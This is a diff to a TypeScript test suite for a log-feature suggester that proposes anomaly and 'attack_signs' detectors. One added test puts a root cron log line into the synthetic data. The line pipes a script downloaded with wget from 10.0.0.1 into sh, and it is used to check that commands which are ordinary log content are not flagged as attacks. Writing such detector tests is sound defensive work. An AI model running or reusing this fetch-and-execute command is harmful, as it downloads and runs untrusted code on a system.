@@ -119,7 +119,8 @@ describe('suggestFeatures', () => {
     });
     expect(typesOf(application)).toEqual({
       'log.level': 'severity',
-      message: 'template',
+      message: 'attack_signs',
+      'service.name': 'combination',
     });
     expect(typesOf(plain)).toMatchObject({
       hour_of_day: 'hour_of_day',
@@ -221,10 +222,38 @@ describe('suggestFeatures', () => {
     expect(
       suggestFeatures(calls, options).map(({ definition: { type, field, by } }) => [type, field, by]),
     ).toEqual([
-      ['severity', 'code', ['svc']],
+      ['severity', 'code', ['svc', { masked: 'message' }]],
       ['template', 'message', undefined],
-      ['deviation', 'latency_us', ['svc']],
+      ['deviation', 'latency_us', ['svc', { masked: 'message' }]],
+      ['combination', 'svc', undefined],
+      ['attack_signs', 'message', undefined],
     ]);
+  });
+
+  it('compares what a line measures with the same line, and lines with what writes them', () => {
+    const lines = ['cache filled', 'order accepted', 'job done'];
+    const command = '(root) CMD (cd / && wget http://10.0.0.1/a.sh | sh)';
+    const logs = Array.from({ length: 400 }, (_none, row) => ({
+      '@timestamp': new Date(start + row * 1_000).toISOString(),
+      log: { level: row % 40 === 0 ? 'WARN' : 'INFO', logger: `logger.${'abcdef'[row % 6]}` },
+      service: { name: `service-${row % 2}` },
+      event: { duration: 90_000 + ((row * 7_919) % 10_000) },
+      message: `${lines[row % 3]} for ${row}`,
+    }));
+    const found = (documents: readonly LogDocument[]) =>
+      suggestFeatures(documents, options).map(({ definition }) => definition);
+    const by = ['service.name', 'log.logger', { masked: 'message' }];
+    expect(found(logs)).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ type: 'severity', field: 'log.level', by }),
+        expect.objectContaining({ type: 'deviation', field: 'event.duration', by }),
+        expect.objectContaining({ type: 'combination', fields: ['log.logger', { masked: 'message' }] }),
+        expect.objectContaining({ type: 'attack_signs', field: 'message' }),
+      ]),
+    );
+    // Where commands are what the logs are about, they are no signs of attacks.
+    const commands = logs.map((log, row) => (row % 20 === 0 ? { ...log, message: command } : log));
+    expect(found(commands).filter(({ type }) => type === 'attack_signs')).toEqual([]);
   });
 
   it('leaves out fields that repeat another in other words or units', () => {
